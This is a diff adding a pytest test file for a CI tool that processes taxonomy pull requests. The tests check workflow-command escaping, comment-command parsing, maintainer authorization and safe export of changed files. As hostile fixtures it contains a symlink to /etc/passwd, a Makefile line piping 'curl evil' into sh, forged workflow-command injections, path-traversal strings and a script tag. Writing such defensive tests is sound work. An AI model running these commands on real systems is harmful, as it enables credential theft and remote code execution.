@@ -1,0 +1,286 @@
+import json
+import os
+import stat
+from pathlib import Path
+
+import pytest
+from gitrepo import add_leaf, commit_all, git, make_repo
+
+from taxon import gitops
+from taxon.errors import TaxonError, UsageError
+
+SHA = "0123456789abcdef0123456789abcdef01234567"
+
+
+# ------------------------------------------------------------------ classify
+
+
+def test_classify_contribution_code_mixed_empty():
+    assert gitops.classify_changes(["taxonomy/knowledge/a/qna.yaml"]).kind == "contribution"
+    assert gitops.classify_changes(["tools/taxon/cli.py"]).kind == "code"
+    mixed = gitops.classify_changes(["taxonomy/knowledge/a/qna.yaml", "Makefile"])
+    assert mixed.kind == "mixed" and mixed.other == ("Makefile",)
+    assert gitops.classify_changes([]).kind == "empty"
+    assert gitops.classify_changes(["taxonomy.toml", "taxonomyx/a"]).kind == "code"
+
+
+def test_leaf_ids_of_changed_files():
+    changes = gitops.classify_changes(
+        ["taxonomy/knowledge/birds/qna.yaml", "taxonomy/knowledge/birds/attribution.txt", "taxonomy/compositional_skills/x/y/qna.yaml"]
+    )
+    assert changes.leaf_ids() == ["compositional_skills/x/y", "knowledge/birds"]
+
+
+def test_split_message_names_the_other_files():
+    message = gitops.split_message(gitops.classify_changes(["taxonomy/k/qna.yaml", "Makefile", "setup.py"]))
+    assert "1 file(s) under taxonomy/" in message and "Makefile, setup.py" in message
+    assert "Split it into two pull requests" in message
+
+
+def test_changed_paths_count_a_rename_on_both_sides(tmp_path):
+    repo = make_repo(tmp_path)
+    git(repo, "checkout", "-q", "-b", "pr")
+    git(repo, "mv", "README.md", "taxonomy/README.md")
+    commit_all(repo, "move")
+    assert gitops.changed_paths(repo, "origin/main") == ["README.md", "taxonomy/README.md"]
+    assert gitops.classify_changes(gitops.changed_paths(repo, "origin/main")).kind == "mixed"
+
+
+def test_changed_paths_needs_the_base(tmp_path):
+    repo = make_repo(tmp_path)
+    with pytest.raises(TaxonError, match="fetch-depth"):
+        gitops.changed_paths(repo, "origin/nope")
+
+
+# ------------------------------------------------------------------ workflow commands
+
+
+def test_annotation_cannot_inject_a_second_command():
+    line = gitops.annotation("error", "bad\n::warning::forged 100%", title="a:b,c", file="x,y.yaml")
+    assert line == "::error file=x%2Cy.yaml,title=a%3Ab%2Cc::bad%0A::warning::forged 100%25"
+    assert "\n" not in line
+
+
+def test_outputs_use_a_delimiter_a_value_cannot_forge(tmp_path):
+    out = tmp_path / "output"
+    gitops.write_outputs(out, {"kind": "mixed", "leaves": "a\nkind=forged"})
+    text = out.read_text()
+    blocks = text.split("\n")
+    assert blocks[0].startswith("kind<<taxon_") and blocks[1] == "mixed" and blocks[2] == blocks[0].split("<<")[1]
+    assert "a\nkind=forged\n" in text
+    gitops.write_outputs(None, {"x": "y"})  # outside a runner: nothing to write
+
+
+# ------------------------------------------------------------------ the /taxon samples command
+
+
+@pytest.mark.parametrize(
+    "body, expected",
+    [
+        ("/taxon samples", gitops.CommentCommand("samples")),
+        ("Looks good.\n\n/taxon samples 0123abc\n", gitops.CommentCommand("samples", "0123abc")),
+        ("/taxon samples " + SHA.upper(), gitops.CommentCommand("samples", SHA)),
+        ("please run\n```\n/taxon samples\n```", None),
+        ("> /taxon samples", None),
+        ("/taxonomy samples", None),
+        ("no command here", None),
+        ("", None),
+    ],
+)
+def test_parse_comment_command(body, expected):
+    assert gitops.parse_comment_command(body) == expected
+
+
+@pytest.mark.parametrize("body", ["/taxon train", "/taxon", "/taxon samples main", "/taxon samples abc1234 more"])
+def test_bad_commands_are_usage_errors(body):
+    with pytest.raises(UsageError):
+        gitops.parse_comment_command(body)
+
+
+@pytest.mark.parametrize(
+    "permission, allowed",
+    [
+        ({"permission": "admin", "role_name": "admin"}, True),
+        ({"permission": "write", "role_name": "maintain"}, True),
+        ({"permission": "write", "role_name": "write"}, True),
+        ({"permission": "read", "role_name": "triage"}, False),
+        ({"permission": "read", "role_name": "read"}, False),
+        ({"permission": "none"}, False),
+        ({}, False),
+    ],
+)
+def test_write_access(permission, allowed):
+    assert gitops.has_write_access(permission) is allowed
+
+
+def _pull(number=7, head=SHA, state="open"):
+    return {"number": number, "state": state, "head": {"sha": head}, "base": {"ref": "main"}}
+
+
+def _label_event(label="generate-samples", head=SHA, sender="maintainer"):
+    return {
+        "action": "labeled",
+        "label": {"name": label},
+        "pull_request": {"number": 7, "head": {"sha": head}},
+        "sender": {"login": sender},
+    }
+
+
+def _comment_event(body="/taxon samples", sender="maintainer", on_pr=True):
+    issue = {"number": 7, **({"pull_request": {"url": "x"}} if on_pr else {})}
+    return {"action": "created", "issue": issue, "comment": {"body": body}, "sender": {"login": sender}}
+
+
+WRITE = {"permission": "write", "role_name": "write", "user": {"login": "maintainer"}}
+
+
+def test_label_by_a_maintainer_is_a_request_for_the_labelled_commit():
+    request = gitops.authorize_samples("pull_request_target", _label_event(), WRITE, _pull())
+    assert request == gitops.SamplesRequest(7, SHA, "main", "maintainer")
+
+
+def test_comment_by_a_maintainer_with_and_without_a_commit():
+    assert gitops.authorize_samples("issue_comment", _comment_event(), WRITE, _pull()).head_sha == SHA
+    assert gitops.authorize_samples("issue_comment", _comment_event("/taxon samples 0123456"), WRITE, _pull()).pr_number == 7
+
+
+@pytest.mark.parametrize(
+    "event_name, event, permission, pull, why",
+    [
+        ("pull_request_target", _label_event("bug"), WRITE, _pull(), "not a 'generate-samples' label"),
+        ("pull_request_target", _label_event(), {"permission": "read", "user": {"login": "maintainer"}}, _pull(), "no write access"),
+        ("pull_request_target", _label_event(), {**WRITE, "user": {"login": "someone-else"}}, _pull(), "not for 'maintainer'"),
+        ("pull_request_target", _label_event(), WRITE, _pull(head="f" * 40), "moved on"),
+        ("pull_request_target", _label_event(), WRITE, _pull(state="closed"), "not open"),
+        ("pull_request_target", _label_event(), WRITE, _pull(number=8), "does not match"),
+        ("issue_comment", _comment_event(on_pr=False), WRITE, _pull(), "not a new comment on a pull request"),
+        ("issue_comment", _comment_event("thanks!"), WRITE, _pull(), "no '/taxon samples' command"),
+        ("issue_comment", _comment_event("/taxon samples fffffff"), WRITE, _pull(), "moved on"),
+        ("issue_comment", _comment_event(sender="drive-by"), {"permission": "read", "user": {"login": "drive-by"}}, _pull(), "no write access"),
+        ("pull_request", _label_event(), WRITE, _pull(), "not generated on 'pull_request'"),
+    ],
+)
+def test_refusals_say_why(event_name, event, permission, pull, why):
+    with pytest.raises(TaxonError, match=why):
+        gitops.authorize_samples(event_name, event, permission, pull)
+
+
+# ------------------------------------------------------------------ the pull request's taxonomy as data
+
+
+def test_export_takes_only_changed_leaves_as_regular_files(tmp_path):
+    repo = make_repo(tmp_path)
+    git(repo, "checkout", "-q", "-b", "pr")
+    new_leaf = add_leaf(repo, "compositional_skills/new/leaf")
+    (new_leaf / "notes.md").write_text("in-tree notes")
+    (new_leaf / "big.md").write_text("x" * 200_001)
+    os.symlink("/etc/passwd", new_leaf / "stolen.md")
+    nested = add_leaf(repo, "compositional_skills/new/leaf/nested")  # a leaf inside the leaf: its own
+    (repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
+    head = commit_all(repo, "pr")
+    git(repo, "checkout", "-q", "main")  # the work tree is main's, as in the trusted job
+
+    out = tmp_path / "pr-data"
+    exported = gitops.export_pr_taxonomy(repo, "origin/main", head, out, max_file_bytes=200_000)
+    assert exported.leaves == ["taxonomy/compositional_skills/new/leaf", "taxonomy/compositional_skills/new/leaf/nested"]
+    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
+    assert written == [
+        "taxonomy/compositional_skills/new/leaf/attribution.txt",
+        "taxonomy/compositional_skills/new/leaf/nested/attribution.txt",
+        "taxonomy/compositional_skills/new/leaf/nested/qna.yaml",
+        "taxonomy/compositional_skills/new/leaf/notes.md",
+        "taxonomy/compositional_skills/new/leaf/qna.yaml",
+    ]
+    assert not any(p.is_symlink() for p in out.rglob("*"))
+    assert dict(exported.skipped) == {
+        "taxonomy/compositional_skills/new/leaf/big.md": "larger than 200000 bytes",
+        "taxonomy/compositional_skills/new/leaf/stolen.md": "not a regular file (symlink or submodule)",
+    }
+    assert not (repo / "taxonomy/compositional_skills/new").exists()  # main's work tree untouched
+    assert (out / "taxonomy/compositional_skills/new/leaf/qna.yaml").read_bytes() == git_blob(repo, head, "taxonomy/compositional_skills/new/leaf/qna.yaml")
+
+
+def git_blob(repo: Path, commit: str, path: str) -> bytes:
+    return git(repo, "show", f"{commit}:{path}").encode() + b"\n"
+
+
+def test_export_of_a_changed_attribution_takes_the_whole_leaf(tmp_path):
+    repo = make_repo(tmp_path)
+    git(repo, "checkout", "-q", "-b", "pr")
+    (repo / "taxonomy/knowledge/existing/leaf/attribution.txt").write_text("changed\n")
+    head = commit_all(repo, "pr")
+    exported = gitops.export_pr_taxonomy(repo, "origin/main", head, tmp_path / "out", 10**6)
+    assert exported.leaves == ["taxonomy/knowledge/existing/leaf"]
+    assert sorted(Path(p).name for p in exported.files) == ["attribution.txt", "qna.yaml"]
+
+
+def test_export_of_a_deleted_leaf_has_no_leaves(tmp_path):
+    repo = make_repo(tmp_path)
+    git(repo, "checkout", "-q", "-b", "pr")
+    git(repo, "rm", "-q", "-r", "taxonomy/knowledge/existing")
+    head = commit_all(repo, "pr")
+    assert gitops.export_pr_taxonomy(repo, "origin/main", head, tmp_path / "out", 10**6).leaves == []
+
+
+def test_unsafe_paths_are_refused():
+    assert gitops._safe_relative("taxonomy/a/qna.yaml")
+    for bad in ("/etc/passwd", "taxonomy/../x", "taxonomy/./x", "taxonomy\\x", ""):
+        assert not gitops._safe_relative(bad)
+
+
+# ------------------------------------------------------------------ sticky comment
+
+
+def _comment(id_, body, login="github-actions[bot]", type_="Bot"):
+    return {"id": id_, "body": body, "user": {"login": login, "type": type_}}
+
+
+def test_sticky_comment_is_ours_only():
+    marker = gitops.COMMENT_MARKER
+    comments = [
+        _comment(1, f"{marker} old"),
+        _comment(2, f"{marker} forged by a user", login="attacker", type_="User"),
+        _comment(3, "unrelated bot comment"),
+        _comment(4, f"{marker} newer"),
+    ]
+    assert gitops.find_sticky_comment(comments) == 4
+    assert gitops.find_sticky_comment(comments[1:3]) is None
+
+
+def test_post_creates_then_updates():
+    calls = []
+    existing = []
+
+    def fake_gh(args, input_bytes):
+        calls.append((args, json.loads(input_bytes) if input_bytes else None))
+        if args[1] == "--paginate":
+            return "".join(json.dumps(c) + "\n" for c in existing).encode()
+        return b"{}"
+
+    assert gitops.post_sticky_comment("o/r", 7, "body one", gh=fake_gh) == "created"
+    assert calls[-1] == (["api", "--method", "POST", "repos/o/r/issues/7/comments", "--input", "-"], {"body": "body one"})
+    existing.append(_comment(99, gitops.COMMENT_MARKER + " body one"))
+    assert gitops.post_sticky_comment("o/r", 7, "body two", gh=fake_gh) == "updated"
+    assert calls[-1] == (["api", "--method", "PATCH", "repos/o/r/issues/comments/99", "--input", "-"], {"body": "body two"})
+
+
+# ------------------------------------------------------------------ summaries
+
+
+def test_pr_summary_lists_leaves_and_the_files_to_split():
+    changes = gitops.classify_changes(["taxonomy/knowledge/a|b/qna.yaml", "Makefile"])
+    summary = gitops.render_pr_summary(changes)
+    assert "**mixed**" in summary and "- `Makefile`" in summary and "- `knowledge/a|b`" in summary
+
+
+def test_validation_summary_from_sarif_escapes_messages():
+    sarif = {"runs": [{"results": [
+        {"ruleId": "S004", "level": "error", "message": {"text": "<script>x</script> | more"},
+         "locations": [{"physicalLocation": {"artifactLocation": {"uri": "taxonomy/k/qna.yaml"}, "region": {"startLine": 3}}}]},
+        {"ruleId": "W1", "level": "warning", "message": {"text": "meh"}, "locations": []},
+    ]}]}
+    summary = gitops.render_validation_summary(sarif)
+    assert "Validation failed: 1 errors, 1 warnings, 0 notes." in summary
+    assert "| error | S004 | `taxonomy/k/qna.yaml:3` | &lt;script&gt;x&lt;/script&gt; \\| more |" in summary
+    assert "<script>" not in summary
+    assert "Validation passed" in gitops.render_validation_summary({"runs": [{"results": []}]})
